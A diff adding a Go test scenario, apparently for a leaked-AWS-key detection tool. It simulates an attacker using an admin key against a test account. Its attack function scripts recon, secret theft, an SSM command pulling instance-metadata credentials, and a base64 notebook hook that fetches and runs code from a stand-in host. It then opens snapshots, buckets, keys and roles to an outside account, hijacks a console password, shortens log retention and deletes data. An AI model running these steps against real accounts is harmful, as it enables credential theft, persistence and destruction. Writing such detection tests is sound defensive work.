@@ -1,0 +1,355 @@
+package scenario
+
+import (
+	"context"
+	"fmt"
+	"strings"
+	"time"
+
+	"github.com/aws/aws-sdk-go-v2/aws"
+	"github.com/aws/aws-sdk-go-v2/service/ec2"
+	ec2types "github.com/aws/aws-sdk-go-v2/service/ec2/types"
+	"github.com/aws/aws-sdk-go-v2/service/iam"
+	"github.com/aws/aws-sdk-go-v2/service/kms"
+	kmstypes "github.com/aws/aws-sdk-go-v2/service/kms/types"
+	"github.com/aws/aws-sdk-go-v2/service/lambda"
+	lambdatypes "github.com/aws/aws-sdk-go-v2/service/lambda/types"
+	"github.com/aws/aws-sdk-go-v2/service/rds"
+	"github.com/aws/aws-sdk-go-v2/service/s3"
+	s3types "github.com/aws/aws-sdk-go-v2/service/s3/types"
+	"github.com/aws/aws-sdk-go-v2/service/sagemaker"
+	sagemakertypes "github.com/aws/aws-sdk-go-v2/service/sagemaker/types"
+	"github.com/aws/aws-sdk-go-v2/service/secretsmanager"
+	"github.com/aws/aws-sdk-go-v2/service/ses"
+	"github.com/aws/aws-sdk-go-v2/service/ssm"
+	ssmtypes "github.com/aws/aws-sdk-go-v2/service/ssm/types"
+
+	"github.com/keyleak/keyleak/test/world"
+)
+
+// Names of the techniques scenario.
+const (
+	TechUser        = "platform-admin"
+	TechOutsider    = "999988887777" // the attacker's own account, outside the organisation
+	techData        = "customer-data"
+	techReports     = "platform-reports"
+	techFunction    = "billing-export"
+	techSecret      = "prod/db-password"
+	techParameter   = "/prod/api-key"
+	techRole        = "deploy-role"
+	techPartnerRole = "partner-audit"
+	techGroup       = "bastion-sg"
+	techDatabase    = "orders-db"
+	techDBSnapshot  = "orders-db-nightly"
+	techAnalyst     = "analyst"
+)
+
+var (
+	techAttackerIPs = []string{"185.220.101.33", "185.220.101.40"}
+	techAttackerUA  = "Boto3/1.34.144 md/Botocore#1.34.144 ua/2.0 os/linux#6.8.0 md/arch#x86_64 lang/python#3.12.3 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.144"
+)
+
+// Techniques leaks platform-admin's (admin) key. The attacker works through the
+// catalogue: recon, secrets and decrypted parameters, a command on an instance, a
+// notebook lifecycle script, a role in a partner account; it opens doors to its own
+// account (a function anyone may invoke and its public URL, a shared snapshot, image
+// and database snapshot, a bucket policy and a public ACL, port 22 to the internet, a
+// KMS grant, a secret's policy, a role's trust, identity providers) and takes over a
+// user's console password; it snapshots data, shortens the trail bucket's life,
+// deregisters an image, deletes and re-encrypts objects. The key's CI keeps writing its
+// reports throughout.
+func Techniques() Scenario {
+	s := &techniques{}
+	return Scenario{
+		Name: "techniques",
+		Description: "platform-admin's admin key leaks; the attacker uses it for secrets, commands, a partner role, " +
+			"shares and resource policies opened to its own account, identity providers, a stolen console password, " +
+			"snapshots, a shortened trail bucket lifecycle and destroyed data",
+		Setup: s.setup, Legit: s.legit, Attack: s.attack,
+	}
+}
+
+type techniques struct {
+	instance, image, oldImage, volume, snapshot, group, kmsKey, partnerRole string
+}
+
+func (s *techniques) setup(ctx context.Context, r *Run) error {
+	b := r.builder(world.DefaultAccount)
+	remote := r.builder(world.SecondAccount)
+	t := &r.Target
+	t.Account, t.LeakedUser, t.TrailBucket = world.DefaultAccount, TechUser, r.World.Gateway.TrailBucket()
+	t.Regions = []string{"us-east-1"}
+	if err := baseAccount(ctx, b); err != nil {
+		return err
+	}
+	userARN, err := b.user(ctx, TechUser, nil, []string{"arn:aws:iam::aws:policy/AdministratorAccess"})
+	if err != nil {
+		return err
+	}
+	if t.Leaked, err = b.accessKey(ctx, TechUser); err != nil {
+		return err
+	}
+	if err := b.bucket(ctx, "us-east-1", techReports, content{key: "daily/latest.csv", body: []byte("day,total\n")}); err != nil {
+		return err
+	}
+	if err := b.bucket(ctx, "us-east-1", techData,
+		content{"exports/customers.csv", []byte("id,email\n1,a@example.com\n"), true},
+		content{"exports/invoices.csv", []byte("id,amount\n1,10\n"), true},
+		content{"exports/summary.json", []byte(`{"rows":2}`), false},
+		content{"README.md", []byte("# customer data\n"), false}); err != nil {
+		return err
+	}
+	if err := b.function(ctx, "us-east-1", techFunction); err != nil {
+		return err
+	}
+	ids, err := b.instances(ctx, "us-east-1", "batch-worker", "m5.large", 1)
+	if err != nil {
+		return err
+	}
+	s.instance = ids[0]
+	e := ec2.NewFromConfig(b.cfg("us-east-1"))
+	for _, img := range []struct {
+		name string
+		id   *string
+	}{{"batch-worker-base", &s.image}, {"batch-worker-2024", &s.oldImage}} {
+		out, err := e.CreateImage(ctx, &ec2.CreateImageInput{InstanceId: aws.String(s.instance), Name: aws.String(img.name)})
+		if err != nil {
+			return fmt.Errorf("create image %s: %w", img.name, err)
+		}
+		*img.id = deref(out.ImageId)
+	}
+	vol, err := e.CreateVolume(ctx, &ec2.CreateVolumeInput{AvailabilityZone: aws.String("us-east-1a"), Size: aws.Int32(100)})
+	if err != nil {
+		return fmt.Errorf("create volume: %w", err)
+	}
+	s.volume = deref(vol.VolumeId)
+	snap, err := e.CreateSnapshot(ctx, &ec2.CreateSnapshotInput{VolumeId: vol.VolumeId, Description: aws.String("nightly")})
+	if err != nil {
+		return fmt.Errorf("create snapshot: %w", err)
+	}
+	s.snapshot = deref(snap.SnapshotId)
+	sg, err := e.CreateSecurityGroup(ctx, &ec2.CreateSecurityGroupInput{GroupName: aws.String(techGroup), Description: aws.String("bastion")})
+	if err != nil {
+		return fmt.Errorf("create security group: %w", err)
+	}
+	s.group = deref(sg.GroupId)
+	if err := b.database(ctx, "us-east-1", techDatabase); err != nil {
+		return err
+	}
+	if _, err := rds.NewFromConfig(b.cfg("us-east-1")).CreateDBSnapshot(ctx, &rds.CreateDBSnapshotInput{
+		DBInstanceIdentifier: aws.String(techDatabase), DBSnapshotIdentifier: aws.String(techDBSnapshot)}); err != nil {
+		return fmt.Errorf("create db snapshot: %w", err)
+	}
+	if s.kmsKey, err = b.kmsKey(ctx, "us-east-1", "customer-data"); err != nil {
+		return err
+	}
+	if _, err := secretsmanager.NewFromConfig(b.cfg("us-east-1")).CreateSecret(ctx, &secretsmanager.CreateSecretInput{
+		Name: aws.String(techSecret), SecretString: aws.String("Pr0d-DB-pa55w0rd!")}); err != nil {
+		return fmt.Errorf("create secret: %w", err)
+	}
+	if _, err := ssm.NewFromConfig(b.cfg("us-east-1")).PutParameter(ctx, &ssm.PutParameterInput{Name: aws.String(techParameter),
+		Type: ssmtypes.ParameterTypeSecureString, Value: aws.String("sk_live_not_a_real_key_1111")}); err != nil {
+		return fmt.Errorf("put parameter: %w", err)
+	}
+	if _, err := b.role(ctx, techRole, trustPrincipals("arn:aws:iam::"+world.DefaultAccount+":root"), time.Hour, nil,
+		"arn:aws:iam::aws:policy/PowerUserAccess"); err != nil {
+		return err
+	}
+	analystARN, err := b.user(ctx, techAnalyst, nil, []string{"arn:aws:iam::aws:policy/ReadOnlyAccess"})
+	if err != nil {
+		return err
+	}
+	if _, err := b.iam().CreateLoginProfile(ctx, &iam.CreateLoginProfileInput{UserName: aws.String(techAnalyst),
+		Password: aws.String("An4lyst-own-pass!")}); err != nil {
+		return fmt.Errorf("create the analyst's password: %w", err)
+	}
+	if s.partnerRole, err = remote.role(ctx, techPartnerRole, trustPrincipals(userARN), time.Hour, nil,
+		"arn:aws:iam::aws:policy/ReadOnlyAccess"); err != nil {
+		return err
+	}
+	t.LegitPrincipals = []string{analystARN}
+	return nil
+}
+
+// legit: the key's CI writes the day's report.
+func (s *techniques) legit(ctx context.Context, r *Run, _, to time.Time) error {
+	return runCI(ctx, r, "52.86.40.7", to, ciReport(techReports))
+}
+
+func (s *techniques) attack(ctx context.Context, r *Run) error {
+	recon := newActor(r.World, r.attacker, techAttackerIPs[0], techAttackerUA, r.Start)
+	a := newActor(r.World, r.attacker, techAttackerIPs[1], techAttackerUA, r.Start)
+	leaked := credential{Credentials: r.Target.Leaked, Label: "leaked", Account: r.Target.Account}
+	cfg := func() aws.Config { return a.config("us-east-1", leaked) }
+	outside := "arn:aws:iam::" + TechOutsider + ":root"
+	var partner credential
+	at := time.Duration(0)
+	steps := []step{}
+	call := func(what string, do func(ctx context.Context) error) {
+		steps = append(steps, step{at, func(ctx context.Context) error { return wrap(do(ctx), what) }})
+		at += time.Minute
+	}
+	// Recon, from the first address.
+	call("who am I", func(ctx context.Context) error { return recon.whoami(ctx, leaked) })
+	call("list users", func(ctx context.Context) error {
+		_, err := iam.NewFromConfig(recon.config("us-east-1", leaked)).ListUsers(ctx, &iam.ListUsersInput{})
+		return err
+	})
+	call("list secrets", func(ctx context.Context) error {
+		_, err := secretsmanager.NewFromConfig(recon.config("us-east-1", leaked)).ListSecrets(ctx, &secretsmanager.ListSecretsInput{})
+		return err
+	})
+	call("SES quota", func(ctx context.Context) error {
+		_, err := ses.NewFromConfig(recon.config("us-east-1", leaked)).GetSendQuota(ctx, &ses.GetSendQuotaInput{})
+		return err
+	})
+	call("SES identities", func(ctx context.Context) error {
+		_, err := ses.NewFromConfig(recon.config("us-east-1", leaked)).ListIdentities(ctx, &ses.ListIdentitiesInput{})
+		return err
+	})
+	// Secrets.
+	call("read the secret", func(ctx context.Context) error {
+		_, err := secretsmanager.NewFromConfig(cfg()).GetSecretValue(ctx, &secretsmanager.GetSecretValueInput{SecretId: aws.String(techSecret)})
+		return err
+	})
+	call("read the parameter", func(ctx context.Context) error {
+		_, err := ssm.NewFromConfig(cfg()).GetParameter(ctx, &ssm.GetParameterInput{Name: aws.String(techParameter), WithDecryption: aws.Bool(true)})
+		return err
+	})
+	// Execution.
+	call("send a command", func(ctx context.Context) error {
+		_, err := ssm.NewFromConfig(cfg()).SendCommand(ctx, &ssm.SendCommandInput{DocumentName: aws.String("AWS-RunShellScript"),
+			InstanceIds: []string{s.instance}, Parameters: map[string][]string{"commands": {"curl -s 169.254.169.254/latest/meta-data/iam/security-credentials/"}}})
+		return err
+	})
+	call("notebook lifecycle script", func(ctx context.Context) error {
+		_, err := sagemaker.NewFromConfig(cfg()).CreateNotebookInstanceLifecycleConfig(ctx, &sagemaker.CreateNotebookInstanceLifecycleConfigInput{
+			NotebookInstanceLifecycleConfigName: aws.String("warmup"),
+			OnStart:                             []sagemakertypes.NotebookInstanceLifecycleHook{{Content: aws.String("IyEvYmluL2Jhc2gKY3VybCBodHRwczovL2V4YW1wbGUuaW52YWxpZC94IHwgc2gK")}}})
+		return err
+	})
+	// Another account.
+	call("assume the partner role", func(ctx context.Context) error {
+		var err error
+		partner, err = a.assumeRole(ctx, leaked, s.partnerRole, "audit", time.Hour)
+		return err
+	})
+	call("list the partner's buckets", func(ctx context.Context) error { _, err := a.listBuckets(ctx, partner); return err })
+	// Doors to its own account.
+	call("trust another account", func(ctx context.Context) error {
+		_, err := iam.NewFromConfig(cfg()).UpdateAssumeRolePolicy(ctx, &iam.UpdateAssumeRolePolicyInput{RoleName: aws.String(techRole),
+			PolicyDocument: aws.String(trustPrincipals("arn:aws:iam::"+world.DefaultAccount+":root", outside))})
+		return err
+	})
+	call("an OIDC provider", func(ctx context.Context) error {
+		_, err := iam.NewFromConfig(cfg()).CreateOpenIDConnectProvider(ctx, &iam.CreateOpenIDConnectProviderInput{
+			Url: aws.String("https://token.actions.example.invalid"), ClientIDList: []string{"sts.amazonaws.com"},
+			ThumbprintList: []string{strings.Repeat("a", 40)}})
+		return err
+	})
+	call("a SAML provider", func(ctx context.Context) error {
+		_, err := iam.NewFromConfig(cfg()).CreateSAMLProvider(ctx, &iam.CreateSAMLProviderInput{Name: aws.String("okta-sso"),
+			SAMLMetadataDocument: aws.String(samlMetadata)})
+		return err
+	})
+	call("the analyst's password", func(ctx context.Context) error {
+		_, err := iam.NewFromConfig(cfg()).UpdateLoginProfile(ctx, &iam.UpdateLoginProfileInput{UserName: aws.String(techAnalyst),
+			Password: aws.String("Own3d-by-us-2026!")})
+		return err
+	})
+	call("anyone may invoke the function", func(ctx context.Context) error {
+		_, err := lambda.NewFromConfig(cfg()).AddPermission(ctx, &lambda.AddPermissionInput{FunctionName: aws.String(techFunction),
+			StatementId: aws.String("public-invoke"), Action: aws.String("lambda:InvokeFunction"), Principal: aws.String("*")})
+		return err
+	})
+	call("a public function URL", func(ctx context.Context) error {
+		_, err := lambda.NewFromConfig(cfg()).CreateFunctionUrlConfig(ctx, &lambda.CreateFunctionUrlConfigInput{
+			FunctionName: aws.String(techFunction), AuthType: lambdatypes.FunctionUrlAuthTypeNone})
+		return err
+	})
+	call("share the snapshot", func(ctx context.Context) error {
+		_, err := ec2.NewFromConfig(cfg()).ModifySnapshotAttribute(ctx, &ec2.ModifySnapshotAttributeInput{SnapshotId: aws.String(s.snapshot),
+			Attribute:              ec2types.SnapshotAttributeNameCreateVolumePermission,
+			CreateVolumePermission: &ec2types.CreateVolumePermissionModifications{Add: []ec2types.CreateVolumePermission{{UserId: aws.String(TechOutsider)}}}})
+		return err
+	})
+	call("share the image with everyone", func(ctx context.Context) error {
+		_, err := ec2.NewFromConfig(cfg()).ModifyImageAttribute(ctx, &ec2.ModifyImageAttributeInput{ImageId: aws.String(s.image),
+			Attribute:        aws.String("launchPermission"),
+			LaunchPermission: &ec2types.LaunchPermissionModifications{Add: []ec2types.LaunchPermission{{Group: ec2types.PermissionGroupAll}}}})
+		return err
+	})
+	call("share the database snapshot", func(ctx context.Context) error {
+		_, err := rds.NewFromConfig(cfg()).ModifyDBSnapshotAttribute(ctx, &rds.ModifyDBSnapshotAttributeInput{
+			DBSnapshotIdentifier: aws.String(techDBSnapshot), AttributeName: aws.String("restore"), ValuesToAdd: []string{TechOutsider}})
+		return err
+	})
+	call("a bucket policy for its account", func(ctx context.Context) error {
+		_, err := a.s3("us-east-1", leaked).PutBucketPolicy(ctx, &s3.PutBucketPolicyInput{Bucket: aws.String(techData),
+			Policy: aws.String(document(stmt{Effect: "Allow", Principal: map[string]any{"AWS": outside}, Action: "s3:GetObject",
+				Resource: "arn:aws:s3:::" + techData + "/*"}))})
+		return err
+	})
+	call("a public bucket ACL", func(ctx context.Context) error {
+		_, err := a.s3("us-east-1", leaked).PutBucketAcl(ctx, &s3.PutBucketAclInput{Bucket: aws.String(techData), ACL: s3types.BucketCannedACLPublicRead})
+		return err
+	})
+	call("port 22 to the internet", func(ctx context.Context) error {
+		_, err := ec2.NewFromConfig(cfg()).AuthorizeSecurityGroupIngress(ctx, &ec2.AuthorizeSecurityGroupIngressInput{GroupId: aws.String(s.group),
+			IpProtocol: aws.String("tcp"), FromPort: aws.Int32(22), ToPort: aws.Int32(22), CidrIp: aws.String("0.0.0.0/0")})
+		return err
+	})
+	call("a KMS grant", func(ctx context.Context) error {
+		_, err := kms.NewFromConfig(cfg()).CreateGrant(ctx, &kms.CreateGrantInput{KeyId: aws.String(s.kmsKey), GranteePrincipal: aws.String(outside),
+			Operations: []kmstypes.GrantOperation{kmstypes.GrantOperationDecrypt}})
+		return err
+	})
+	call("the secret's policy", func(ctx context.Context) error {
+		_, err := secretsmanager.NewFromConfig(cfg()).PutResourcePolicy(ctx, &secretsmanager.PutResourcePolicyInput{SecretId: aws.String(techSecret),
+			ResourcePolicy: aws.String(document(stmt{Effect: "Allow", Principal: map[string]any{"AWS": outside}, Action: "secretsmanager:GetSecretValue", Resource: "*"}))})
+		return err
+	})
+	// Data.
+	call("snapshot the volume", func(ctx context.Context) error {
+		_, err := ec2.NewFromConfig(cfg()).CreateSnapshot(ctx, &ec2.CreateSnapshotInput{VolumeId: aws.String(s.volume)})
+		return err
+	})
+	call("snapshot the database", func(ctx context.Context) error {
+		_, err := rds.NewFromConfig(cfg()).CreateDBSnapshot(ctx, &rds.CreateDBSnapshotInput{DBInstanceIdentifier: aws.String(techDatabase),
+			DBSnapshotIdentifier: aws.String("orders-db-copy")})
+		return err
+	})
+	// Covering tracks and destroying.
+	call("expire the trail's logs", func(ctx context.Context) error {
+		_, err := a.s3("us-east-1", leaked).PutBucketLifecycleConfiguration(ctx, &s3.PutBucketLifecycleConfigurationInput{
+			Bucket: aws.String(r.Target.TrailBucket), LifecycleConfiguration: &s3types.BucketLifecycleConfiguration{Rules: []s3types.LifecycleRule{{
+				ID: aws.String("cleanup"), Status: s3types.ExpirationStatusEnabled, Filter: &s3types.LifecycleRuleFilter{Prefix: aws.String("")},
+				Expiration: &s3types.LifecycleExpiration{Days: aws.Int32(1)}}}}})
+		return err
+	})
+	call("deregister an image", func(ctx context.Context) error {
+		_, err := ec2.NewFromConfig(cfg()).DeregisterImage(ctx, &ec2.DeregisterImageInput{ImageId: aws.String(s.oldImage)})
+		return err
+	})
+	call("re-encrypt an object with its own key", func(ctx context.Context) error {
+		_, err := a.s3("us-east-1", leaked).PutObject(ctx, &s3.PutObjectInput{Bucket: aws.String(techData), Key: aws.String("exports/summary.json"),
+			Body: strings.NewReader("encrypted"), SSECustomerAlgorithm: aws.String("AES256"),
+			SSECustomerKey: aws.String("MDEyMzQ1Njc4OWFiY2RlZjAxMjM0NTY3ODlhYmNkZWY="), SSECustomerKeyMD5: aws.String("fYCaKDCSGz6HKRc/gWw1xQ==")})
+		return err
+	})
+	call("delete objects in bulk", func(ctx context.Context) error {
+		_, err := a.s3("us-east-1", leaked).DeleteObjects(ctx, &s3.DeleteObjectsInput{Bucket: aws.String(techData), Delete: &s3types.Delete{
+			Objects: []s3types.ObjectIdentifier{{Key: aws.String("exports/customers.csv")}, {Key: aws.String("exports/invoices.csv")}}}})
+		return err
+	})
+	call("delete an object", func(ctx context.Context) error {
+		_, err := a.s3("us-east-1", leaked).DeleteObject(ctx, &s3.DeleteObjectInput{Bucket: aws.String(techData), Key: aws.String("README.md")})
+		return err
+	})
+	return play(ctx, r.Start, steps, recon, a)
+}
+
+// samlMetadata is an identity provider's SAML metadata, as an IdP exports it.
+const samlMetadata = `<?xml version="1.0"?><md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="http://www.okta.example.invalid/exk1">` +
+	`<md:IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol"><md:SingleSignOnService ` +
+	`Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="https://okta.example.invalid/sso/saml"/></md:IDPSSODescriptor></md:EntityDescriptor>`
